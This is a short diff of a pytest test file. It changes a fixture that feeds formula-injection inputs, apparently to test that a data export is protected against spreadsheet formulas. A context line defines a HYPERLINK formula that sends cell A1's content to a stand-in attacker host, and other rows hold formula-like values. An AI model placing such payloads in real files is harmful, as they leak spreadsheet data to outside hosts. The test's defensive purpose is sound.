@@ -82,8 +82,9 @@ FORMULA_NOTE = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
 
 
 @pytest.fixture
-def hostile_inputs(project):
-    """The real project plus one valid package whose text a spreadsheet would run."""
+def hostile_inputs(one_report):
+    """A project of one real report plus one valid package whose text a spreadsheet would run."""
+    project = one_report
     rows = [
         {**GOOD_ROW, "note": FORMULA_NOTE, "provenance": "@SUM(1+1)"},
         {**GOOD_ROW, "period": "2020-05-18", "breakdown_dimension": "age", "breakdown_category": "-5 years",
